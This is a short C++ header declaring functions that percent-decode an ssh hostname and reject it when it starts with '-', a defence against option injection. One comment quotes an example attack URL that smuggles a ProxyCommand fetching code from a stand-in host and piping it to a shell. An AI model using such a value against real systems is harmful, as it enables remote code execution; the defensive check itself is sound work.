#pragma once

#include <string>

// Percent-decode the host and check that ssh will not read it as an option
// (e.g. "ssh://-oProxyCommand=curl${IFS}bad.server|sh/path").
bool is_safe_ssh_host(const std::string& host);

// Throws SecurityError("potentially unsafe hostname: '<decoded host>'") when
// the decoded host starts with '-'. Never rewrites the host.
void check_safe_ssh_host(const std::string& host);
